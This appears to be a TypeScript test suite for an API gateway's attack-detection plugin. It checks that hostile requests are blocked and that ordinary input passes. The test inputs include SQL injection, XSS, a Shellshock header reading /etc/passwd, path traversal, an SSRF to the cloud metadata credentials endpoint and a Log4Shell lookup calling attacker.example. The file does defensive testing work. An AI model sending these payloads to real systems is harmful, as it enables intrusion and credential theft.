import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, it } from 'node:test';
import {
  baseConfig,
  problemOf,
  startGateway,
  startUpstream,
  type TestGateway,
  type TestUpstream,
  waitForLog,
} from '../helpers.js';

describe('attack detection through the gateway', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;
  before(async () => {
    upstream = await startUpstream();
    gw = await startGateway(
      baseConfig(upstream.url, {
        routes: [
          { id: 'items', path: '/items', methods: ['GET', 'POST'], upstream: 'api' },
          {
            id: 'posts',
            path: '/posts',
            methods: ['POST'],
            upstream: 'api',
            plugins: {
              'attack-detection': { exclusions: [{ rule: 'xss', location: 'json', name: '$.html' }] },
            },
          },
          {
            id: 'watch',
            path: '/watch',
            methods: ['GET'],
            upstream: 'api',
            plugins: { 'attack-detection': { mode: 'monitor' } },
          },
        ],
        plugins: { 'attack-detection': {} },
      }),
    );
  });
  after(async () => {
    await gw?.close();
    await upstream?.close();
  });
  beforeEach(() => {
    upstream.calls.length = 0;
  });

  async function blocked(path: string, init: RequestInit = {}): Promise<string> {
    const res = await fetch(gw.url + path, init);
    const text = await res.text();
    const p = problemOf(res.headers.get('content-type'), text) as { code: string; detail?: string };
    assert.equal(res.status, 403, text);
    assert.equal(p.code, 'ATTACK_DETECTED');
    assert.match(p.detail ?? '', /^Matched rules: [a-z]+-[a-z0-9-]+/);
    assert.equal(upstream.calls.length, 0, 'the upstream must not be called');
    return text;
  }

  const json = (body: unknown): RequestInit => ({
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });

  it('blocks attacks in every location, decoded, and never echoes the payload', async () => {
    const text = await blocked(`/items?q=${encodeURIComponent("1' OR '1'='1")}`);
    assert.ok(!text.includes("'1'='1"), text);
    await blocked(
      `/items?q=${encodeURIComponent(encodeURIComponent('<script>alert(document.cookie)</script>'))}`,
    );
    await blocked('/items', { headers: { 'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' } });
    await blocked('/items', {
      headers: { cookie: `session=${encodeURIComponent('../../../../etc/passwd')}` },
    });
    await blocked('/items', json({ user: { bio: "x'; DROP TABLE users; --" } }));
    await blocked(
      '/items',
      json({ avatar: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
    );
    await blocked('/items', json({ name: '${jndi:ldap://attacker.example/a}' }));
    await blocked('/items', {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: `comment=${encodeURIComponent('<img src=x onerror=alert(1)>')}`,
    });
    const logged = await waitForLog(gw, (l) => l.msg === 'attack-detection: request blocked');
    assert.ok(Array.isArray(logged.matches));
  });

  it('lets ordinary values through: names with apostrophes, prose with SQL words, URLs', async () => {
    for (const q of [
      "O'Brien",
      'select the best option and order by price',
      'https://example.com/docs?page=2',
      'Tom & Jerry; Itchy & Scratchy',
    ]) {
      const res = await fetch(`${gw.url}/items?q=${encodeURIComponent(q)}`);
      assert.equal(res.status, 200, q);
    }
    const res = await fetch(
      `${gw.url}/items`,
      json({ name: "Seán O'Connor", note: "Don't drop the ball; we'll union up at 5 (or 6)." }),
    );
    assert.equal(res.status, 200);
  });

  it('an exclusion lets one field carry markup; the same markup elsewhere is still blocked', async () => {
    const ok = await fetch(
      `${gw.url}/posts`,
      json({ html: '<p onclick="go()">hi</p><script>track()</script>' }),
    );
    assert.equal(ok.status, 200);
    upstream.calls.length = 0;
    await blocked('/posts', json({ title: '<script>alert(1)</script>' }));
  });

  it('monitor mode logs and lets the request pass', async () => {
    const res = await fetch(
      `${gw.url}/watch?q=${encodeURIComponent('1 UNION SELECT password FROM users--')}`,
    );
    assert.equal(res.status, 200);
    assert.equal(upstream.calls.length, 1);
  });
});
